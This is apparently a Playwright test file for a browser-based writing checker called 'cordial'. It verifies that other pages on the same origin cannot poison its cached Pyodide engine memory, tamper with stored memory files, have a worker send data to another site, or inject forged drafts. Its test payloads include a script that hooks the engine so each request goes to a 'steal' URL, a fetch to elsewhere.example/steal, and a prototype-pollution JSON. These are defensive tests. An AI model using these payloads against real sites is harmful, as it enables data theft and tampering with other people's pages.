"""On user.github.io/cordial/, other people's pages have the same origin, and the host doesn't send a policy."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from tools.browsers.driver import Checker, natively

BAD = "Dear Sir or Madam, I'd like to add you to my professional network."


@pytest.fixture
def origin(plain_host, serve) -> Iterator[str]:
    """The URL of an origin with our site in cordial/, and with other pages wherever a test puts them."""
    with serve(plain_host) as url:
        yield url


@pytest.fixture
def beside(page, origin):
    """`beside()` opens a page of the same origin that isn't ours."""
    page.route(
        "**/evil/", lambda route: route.fulfill(body="<!doctype html><title>x</title>", content_type="text/html")
    )

    def open_() -> None:
        page.goto(f"{origin}evil/")

    return open_


# Starts the engine of a copy of our site at the root, changes it, and stores the result for the site in cordial/.
PLANT = """async (thief) => {
  const { boot } = await import("/assets/engine/load-pyodide.js");
  const { packPages } = await import("/assets/engine/zero-pages.js");
  const runtime = new URL("/assets/runtime/runtime.json", location).href;
  const config = await (await fetch(runtime)).json();
  let memory = null;
  await boot(runtime, () => {}, { onMemory: () => {}, enter: (python) => {
    python.runPython(`
import checkers.browser as browser
ours = browser.handle
def handle(request):
    import js
    js.fetch("${thief}?" + js.encodeURIComponent(request))
    return ours(request).replace("professional", "PWNED")
browser.handle = handle
`);
    memory = python.makeMemorySnapshot();
    return () => "";
  }});
  const base = new URL(`/cordial/assets/runtime/${config.base}`, location);
  for (const name of [...(await caches.keys()), "cordial-engine"])
    await (await caches.open(name)).put(new URL(`memory-${config.hash}`, base).href, new Response(packPages(memory)));
  return memory.length;
}"""


def test_another_page_of_the_origin_cant_replace_the_engine(
    beside, plain_host, site_dir, page, origin, site_url, requests_log
):
    (plain_host / "assets").symlink_to(site_dir / "assets")
    try:
        beside()
        assert page.evaluate(PLANT, f"{site_url}steal") > 5_000_000
    finally:
        (plain_host / "assets").unlink()
    page.goto(f"{origin}cordial/guide/invite-stranger/")
    checker = Checker(page).ready()
    for text in (BAD, f"{BAD} Bye."):
        checker.check(text)
        assert checker.messages() == [finding.message for finding in natively(text).findings]
    assert not [request.url for request in requests_log if "steal" in request.url]


def engines_after(page, url: str) -> list[str]:
    """The caches in which a visit to the site at `url` stores an engine's memory. That takes two or three seconds, so
    give up after ten.
    """
    page.goto(f"{url}guide/invite-stranger/")
    Checker(page).ready().check(BAD)
    for _ in range(100):
        found = page.evaluate("caches.keys().then(names => names.filter(name => name.startsWith('cordial-engine')))")
        if found:
            break
        page.wait_for_timeout(100)
    return found


def test_no_snapshot_is_kept_if_others_could_change_it(page, origin, at_root):
    assert engines_after(page, at_root) == ["cordial-engine"], "it's kept if no other site has the origin"
    assert engines_after(page, f"{origin}cordial/") == []


@pytest.mark.parametrize(("host", "kept"), [("cordial.example", ["cordial-engine"]), ("someone.github.io", [])])
def test_no_snapshot_is_kept_at_the_root_of_a_host_with_other_projects(page, at_root, host, kept):
    page.context.route(
        f"https://{host}/**",
        lambda route: route.fulfill(response=route.fetch(url=route.request.url.replace(f"https://{host}/", at_root))),
    )
    assert engines_after(page, f"https://{host}/") == kept


# Any page of the origin can do this: write bytes to the file in which the next start looks for the unpacked memory.
PLANT_MEMORY = """async ([site, words, instead, written]) => {
  const runtime = new URL("assets/runtime/runtime.json", site).href;
  const config = await (await fetch(runtime)).json();
  const base = new URL(config.base, runtime);
  const packed = (await fetch(new URL(config.memory, base))).body.pipeThrough(new DecompressionStream("gzip"));
  const bytes = new Uint8Array(await new Response(packed).arrayBuffer());
  let count = 0;
  const [find, put] = [words, instead].map((text) => new TextEncoder().encode(text));
  for (let at = bytes.indexOf(find[0]); at >= 0; at = bytes.indexOf(find[0], at + 1)) {
    if (find.some((byte, n) => bytes[at + n] !== byte)) continue;
    bytes.set(put, at);
    count += 1;
  }
  if (!written) bytes.fill(0, 0, 4);
  const folder = await (await navigator.storage.getDirectory()).getDirectoryHandle("cordial-engine", { create: true });
  const name = `${encodeURIComponent(new URL("..", base).pathname)} unpacked-${config.memory}`;
  const file = await (await folder.getFileHandle(name, { create: true })).createWritable();
  await file.write(bytes);
  await file.close();
  return count;
}"""


@pytest.mark.chromium_only("Playwright's Firefox keeps no files in its private windows")
@pytest.mark.parametrize(
    ("alone", "change"),
    [(False, "none"), (False, "words"), (True, "none"), (True, "unfinished")],
    ids=["as it was kept", "changed", "where we're alone", "where we're alone, and it wasn't written to its end"],
)
def test_kept_memory_is_only_used_if_it_is_unchanged(beside, page, origin, at_root, requests_log, alone, change):
    expected = [finding.message for finding in natively(BAD).findings]
    words = next(message for message in expected if message.isascii())
    site = at_root if alone else f"{origin}cordial/"
    if alone:
        page.goto(f"{at_root}about/")
    else:
        beside()
    instead = "x" * len(words) if change == "words" else words
    assert page.evaluate(PLANT_MEMORY, [site, words, instead, change != "unfinished"]) > 0, "it must contain the words"
    requests_log.clear()
    page.goto(f"{site}guide/invite-stranger/")
    checker = Checker(page).ready()
    checker.check(BAD)
    assert checker.messages() == expected
    fetched = [request.url for request in requests_log if "/checkers-" in request.url or "/memory-" in request.url]
    assert bool(fetched) == (change != "none")


# In a worker, since only workers can open files synchronously.
KEEP = """async ([module, own, other]) => {
  const script = `
    const { keepMemory, recallMemory, forgetMemory } = await import(${JSON.stringify(module)});
    const hash = async (bytes) => Array.from(new Uint8Array(await crypto.subtle.digest("SHA-256", bytes)),
      (byte) => byte.toString(16).padStart(2, "0")).join("");
    const bytes = new Uint8Array(100_000).map((_, at) => at % 251);
    const config = { memory: "memory-1.bin.gz", memoryHash: await hash(bytes) };
    const newer = { memory: "memory-2.bin.gz", memoryHash: await hash(bytes) };
    const read = async (config, base) => {
      const found = await recallMemory(config, base);
      if (found === null) return "nothing";
      return found[0].then((memory) => {
        const read = new Uint8Array(memory.length);
        memory.read(read, 0);
        memory.close();
        return read.every((byte, at) => byte === bytes[at]) && read.length === bytes.length ? "the same" : "other bytes";
      }, () => "refused");
    };
    const [own, other] = ${JSON.stringify([own, other])};
    const seen = [await read(config, own), await keepMemory(config, own, bytes), await read(config, own)];
    seen.push(...(await Promise.all([read(config, own), read(config, own)])));
    seen.push(await read({ ...config, memoryHash: newer.memoryHash.replace(/./g, "0") }, own), await read(config, other));
    seen.push(await keepMemory(config, other, bytes), await keepMemory(newer, own, bytes));
    seen.push(await read(config, own), await read(newer, own), await read(config, other));
    await forgetMemory(own);
    seen.push(await read(newer, own), await read(config, other));
    postMessage(seen);`;
  const url = URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
  const worker = new Worker(url, { type: "module" });
  return new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = ({ message }) => reject(new Error(message));
  });
}"""


@pytest.mark.chromium_only("Playwright's Firefox keeps no files in its private windows")
def test_each_copy_of_the_site_keeps_its_newest_memory(beside, page, origin):
    beside()
    bases = [f"{origin}{name}/assets/runtime/pyodide-0/" for name in ("cordial", "preview")]
    assert page.evaluate(KEEP, [f"{origin}cordial/assets/engine/kept-memory.js", *bases]) == [
        *("nothing", True, "the same"),
        *("the same", "the same"),  # two tabs at the same time
        *("refused", "nothing"),
        *(True, True),
        *("nothing", "the same", "the same"),
        *("nothing", "the same"),
    ]


@pytest.mark.chromium_only("Playwright reaches into no worker of Firefox")
def test_a_worker_cant_send_anything_to_another_site(page, origin):
    sent = []
    page.context.route("https://elsewhere.example/**", lambda route: (sent.append(route), route.fulfill(body="there")))
    page.goto(f"{origin}cordial/guide/invite-stranger/")
    checker = Checker(page).ready()
    (worker,) = checker.workers()
    send = "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')"
    assert worker.evaluate(send, f"{origin}cordial/sitemap.xml") == "sent"
    assert worker.evaluate(send, "https://elsewhere.example/steal") == "refused"
    assert sent == []


def test_two_copies_of_the_site_keep_separate_drafts(plain_host, site_dir, page, origin):
    (plain_host / "preview").symlink_to(plain_host / "cordial")
    try:
        page.goto(f"{origin}cordial/check/")
        first = Checker(page)
        first.write(BAD)
        keep = first.root.get_by_label("Keep my text on this device")
        keep.check()
        page.goto(f"{origin}preview/check/")
        other = Checker(page)
        expect(other.root.get_by_label("Keep my text on this device")).not_to_be_checked()
        expect(other.area).to_have_value("")
        other.write("Hi Ana,")
        other.root.get_by_label("Keep my text on this device").check()
        other.root.get_by_label("Keep my text on this device").uncheck()
        page.goto(f"{origin}cordial/check/")
        expect(Checker(page).area).to_have_value(BAD)
    finally:
        (plain_host / "preview").unlink()


FORGED = {
    "no answers": {"text": BAD, "situation": "decline", "values": None},
    "wrong types": {"text": BAD, "situation": ["decline"], "values": {"account": {"toString": 1}}},
    "a prototype": {"text": BAD, "__proto__": {"x": 1}, "values": {"__proto__": {"x": 1}}},
}


@pytest.mark.parametrize("forged", FORGED.values(), ids=FORGED)
def test_a_kept_draft_from_another_page_is_only_read_as_text(beside, page, origin, forged):
    beside()
    draft = json.dumps(forged)
    page.evaluate(
        "draft => { localStorage['cordial-keep /cordial/'] = 'yes';"
        " localStorage['cordial-draft /cordial/ /cordial/guide/invite-stranger/ 0'] = draft; }",
        draft,
    )
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{origin}cordial/guide/invite-stranger/")
    checker = Checker(page)
    expect(checker.area).to_have_value(BAD)
    assert checker.ready().settled()["verdict"] == "revise"
    assert errors == [] and page.evaluate("({}).x") is None
